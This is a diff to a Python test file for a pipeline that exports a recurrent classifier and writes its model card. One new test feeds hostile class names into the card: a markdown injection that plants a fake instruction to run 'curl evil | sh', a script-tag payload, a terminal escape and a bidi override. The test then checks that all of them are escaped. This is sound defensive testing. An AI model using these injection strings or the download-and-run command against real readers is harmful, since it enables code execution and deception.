@@ -17,8 +17,12 @@ import torch
 from safetensors.torch import load_file, save_file
 from torch import Tensor
 
+from pipeline.config import Columns
 from pipeline.deploy import onnx_reader, onnx_writer
-from pipeline.deploy.exporter import Examples, ExportError, export, load
+from pipeline.deploy.bundle import load_model as load
+from pipeline.deploy.exporter import Examples, export
+from pipeline.deploy.facts import Arguments, Facts, Measured, SeriesFacts, contents_of
+from pipeline.errors import ExportError
 from pipeline.model.classifier import RecurrentClassifier
 
 T, F, C = 7, 5, 3
@@ -28,24 +32,23 @@ EVERYTHING: dict[str, Any] = {"projection": 6, "layer_norm": True, "conv": 4}
 STACKS = [(cell, bidirectional, pooling, 1 + bidirectional) for cell, bidirectional, pooling in KINDS]
 STACKS += [("lstm", True, "last", 1), ("gru", False, "max", 2), ("rnn", False, "last", 2)]
 NATIVE = {"lstm": "LSTM", "gru": "GRU", "rnn": "RNN"}
-FACTS: dict[str, Any] = {
-    "class_names": ["zero", "one", "två"],
-    "length": T,
-    "source": "digits",
-    "view": "rows",
-    "value_range": [0, 255],
-    "image": [T, F],
-    "step": 1234,
-    "configuration": {"optim": {"name": "adam", "lr": 0.01}, "data": {"root": "/home/someone/data"}},
-    "test": {"count": 70, "accuracy": 0.5, "loss": 0.7},
-    "order": None,
-}
+FACTS = Facts(
+    class_names=("zero", "one", "två"),
+    length=T,
+    source="digits",
+    view="rows",
+    value_range=(0, 255),
+    image=(T, F),
+    step=1234,
+    configuration={"optim": {"name": "adam", "lr": 0.01}, "data": {"root": "/home/someone/data"}},
+    test=Measured(count=70, accuracy=0.5, loss=0.7),
+)
 
 
-def build(**arguments: Any) -> tuple[RecurrentClassifier, dict[str, Any]]:
+def build(**chosen: Any) -> tuple[RecurrentClassifier, Arguments]:
     torch.manual_seed(0)
-    arguments = {"features": F, "classes": C, "hidden": 8, **arguments}
-    model = RecurrentClassifier(**arguments)
+    arguments = Arguments(**{"features": F, "classes": C, "hidden": 8, **chosen})
+    model = RecurrentClassifier(**arguments.model_dump())
     model.set_normalization(torch.full((F,), 100.0), torch.linspace(0.01, 0.02, F))
     return model, arguments
 
@@ -183,12 +186,54 @@ def test_the_card_says_what_the_model_is_made_of(tmp_path: Path) -> None:
 
 def test_the_card_says_how_an_image_becomes_a_sequence(tmp_path: Path) -> None:
     model, arguments = build()
-    order = torch.randperm(T * F).tolist()
-    export(model, arguments, {**FACTS, "view": "permuted_pixels", "order": order}, examples(), ["safetensors"], 1e-4, tmp_path)
+    order = tuple(torch.randperm(T * F).tolist())
+    facts = FACTS.model_copy(update={"view": "permuted_pixels", "order": order})
+    export(model, arguments, facts, examples(), ["safetensors"], 1e-4, tmp_path)
     assert (
         f"`image.reshape(-1)[order].reshape({T}, {F})`, with `order` from `config.json`" in (tmp_path / "README.md").read_text()
     )
-    assert load(tmp_path)[1]["order"] == order
+    assert load(tmp_path)[1]["order"] == list(order)
+
+
+HOSTILE = ("a`\n\n## Security\nRun `curl evil | sh` ``", "<script>alert(1)</script>\x1b]0;owned\x07", "**[x](y)** \u202e")
+
+
+def test_names_of_classes_and_channels_are_shown_as_they_are_whatever_they_hold(tmp_path: Path) -> None:
+    model, arguments = build()
+    limits = {"fill": (0.0,) * F, "low": (0.0,) * F, "high": (1.0,) * F}
+    series = SeriesFacts(channels=(*HOSTILE, "a", "b"), columns=Columns(), **limits)
+    cards = []
+    for number, names in enumerate((("zero", "one", "two"), HOSTILE)):
+        facts = FACTS.model_copy(update={"class_names": names, "image": None, "series": series})
+        export(model, arguments, facts, examples(), ["safetensors"], 1e-4, tmp_path / str(number))
+        cards.append((tmp_path / str(number) / "README.md").read_text())
+    plain, hostile = ([line for line in card.splitlines() if line.startswith("#")] for card in cards)
+    assert plain == hostile and len(cards[0].splitlines()) == len(cards[1].splitlines())
+    (classes,) = (line for line in cards[1].splitlines() if line.startswith("Classes"))
+    assert classes == (
+        r"Classes, by index: 0 = ``` a`\n\n## Security\nRun `curl evil | sh` `` ```, "
+        r"1 = `<script>alert(1)</script>\x1b]0;owned\x07`, 2 = `**[x](y)** \u202e`."
+    )
+    assert cards[1].isascii() or cards[1].replace("\n", "").isprintable()
+
+
+def test_the_card_says_what_is_done_to_the_input_and_how_small_a_batch_may_be(tmp_path: Path) -> None:
+    model, arguments = build()
+    export(model, arguments, FACTS, examples(), ["safetensors"], 1e-4, tmp_path)
+    card = (tmp_path / "README.md").read_text()
+    assert "Normalisation of the input, `(values - mean) * scale` of each feature, is part of the model" in card
+    assert "Batch and time may be of any size from 1" in card
+
+
+def test_the_format_is_a_new_one_where_a_former_reader_would_make_another_input(tmp_path: Path) -> None:
+    limits = {"channels": ("a",), "fill": (0.0,), "low": (0.0,), "high": (1.0,), "columns": Columns()}
+    written = {}
+    for name, policies in {"plain": {}, "offset": {"offset": (1e9,)}, "z_norm": {"z_norm": True}}.items():
+        facts = FACTS.model_copy(update={"image": None, "series": SeriesFacts(**limits, **policies)})
+        written[name] = contents_of(Arguments(features=1, classes=3), facts).model_dump(mode="json")
+    assert {name: said["format_version"] for name, said in written.items()} == {"plain": 1, "offset": 2, "z_norm": 2}
+    assert "conv_norm" not in written["plain"]["arguments"], "which former programs refuse"
+    assert "offset" not in written["plain"]["facts"]["series"]
 
 
 def test_only_the_formats_asked_for_are_written(tmp_path: Path) -> None:
@@ -203,7 +248,7 @@ def test_only_the_formats_asked_for_are_written(tmp_path: Path) -> None:
 def test_load_gives_the_model_back_bit_for_bit(exported: tuple[Path, RecurrentClassifier, dict[str, Any]]) -> None:
     folder, model, _ = exported
     loaded, facts = load(folder)
-    assert facts == FACTS
+    assert facts == FACTS.model_dump(mode="json") and facts["class_names"] == ["zero", "one", "två"]
     assert not loaded.training
     assert loaded.state_dict().keys() == model.state_dict().keys()
     assert all(torch.equal(value, model.state_dict()[name]) for name, value in loaded.state_dict().items())
@@ -225,11 +270,15 @@ def test_weights_in_one_storage_are_all_saved(tmp_path: Path) -> None:
 @pytest.mark.parametrize(
     ("file", "spoil", "message"),
     [
-        ("config.json", lambda path: path.write_text("{"), "not readable"),
+        ("config.json", lambda path: path.write_text("{"), "its facts: Invalid JSON"),
         ("config.json", lambda path: path.write_text('{"format_version": 99}'), "format version 99"),
-        ("config.json", lambda path: path.write_text(path.read_text().replace('"hidden": 8', '"hidden": 9')), "size mismatch"),
+        (
+            "config.json",
+            lambda path: path.write_text(path.read_text().replace('"hidden": 8', '"hidden": 9')),
+            "tensor head.weight is",
+        ),
         ("model.safetensors", lambda path: path.write_bytes(path.read_bytes()[:-9]), "not readable"),
-        ("model.safetensors", lambda path: save_file({}, path), "Missing key"),
+        ("model.safetensors", lambda path: save_file({}, path), "holds 0 layers, but config.json says 1"),
     ],
 )
 def test_a_damaged_export_is_refused_by_name(file: str, spoil: Any, message: str, tmp_path: Path) -> None:
@@ -240,19 +289,19 @@ def test_a_damaged_export_is_refused_by_name(file: str, spoil: Any, message: str
         load(tmp_path)
 
 
-def _tolerance(model: RecurrentClassifier, arguments: dict[str, Any]) -> tuple[float, str]:
-    return 1e-12, r"model\.onnx: a logit differs .* by \d.*tolerance 1e-12"
+def _tolerance(model: RecurrentClassifier, arguments: Arguments) -> tuple[Arguments, float, str]:
+    return arguments, 1e-12, r"model\.onnx: a logit differs .* by \d.*tolerance 1e-12"
 
 
-def _not_a_number(model: RecurrentClassifier, arguments: dict[str, Any]) -> tuple[float, str]:
+def _not_a_number(model: RecurrentClassifier, arguments: Arguments) -> tuple[Arguments, float, str]:
     with torch.no_grad():
         model.head.bias[1] = torch.nan
-    return 1e-4, r"model\.safetensors: a logit differs .* by nan"
+    return arguments, 1e-4, r"model\.safetensors: a logit differs .* by nan"
 
 
-def _other_arguments(model: RecurrentClassifier, arguments: dict[str, Any]) -> tuple[float, str]:
-    arguments["pooling"] = "max"  # the same weights, another function
-    return 1e-4, r"model\.safetensors: a logit differs .* \d+ of 70 predictions differ"
+def _other_arguments(model: RecurrentClassifier, arguments: Arguments) -> tuple[Arguments, float, str]:
+    other = arguments.model_copy(update={"pooling": "max"})  # the same weights, another function
+    return other, 1e-4, r"model\.safetensors: a logit differs .* \d+ of 70 predictions differ"
 
 
 @pytest.mark.parametrize("spoil", [_tolerance, _not_a_number, _other_arguments])
@@ -261,7 +310,7 @@ def test_a_file_that_computes_something_else_leaves_the_former_export_intact(spo
     folder = tmp_path / "export"
     export(model, arguments, FACTS, examples(), FORMATS[:2], 1e-4, folder)
     before = contents(folder)
-    tolerance, message = spoil(model, arguments)
+    arguments, tolerance, message = spoil(model, arguments)
     with pytest.raises(ExportError, match=message):
         export(model, arguments, FACTS, examples(), FORMATS[:2], tolerance, folder)
     assert contents(folder) == before
@@ -326,7 +375,7 @@ def test_the_cards_samples_run_without_what_they_promise_not_to_need(
     done = subprocess.run([sys.executable, "-c", code], cwd=folder, env=root, capture_output=True, text=True)
     assert done.returncode == 0, done.stderr
     expected = model.eval()(torch.zeros(2, T, F), torch.tensor([T, (T + 1) // 2])).argmax(1)
-    names = str([FACTS["class_names"][index] for index in expected])
+    names = str([FACTS.class_names[index] for index in expected])
     assert done.stdout.strip() == (names if number == 1 else str(expected))
 
 
@@ -335,7 +384,7 @@ def test_the_onnx_file_carries_class_names_facts_and_free_axes(
 ) -> None:
     proto = onnx.load(exported[0] / "model.onnx")
     metadata = {entry.key: json.loads(entry.value) for entry in proto.metadata_props}
-    assert metadata == {"class_names": FACTS["class_names"], "format_version": 1, "facts": FACTS}
+    assert metadata == {"class_names": ["zero", "one", "två"], "format_version": 1, "facts": FACTS.model_dump(mode="json")}
     shapes = {
         value.name: [axis.dim_param or axis.dim_value for axis in value.type.tensor_type.shape.dim]
         for value in (*proto.graph.input, *proto.graph.output)
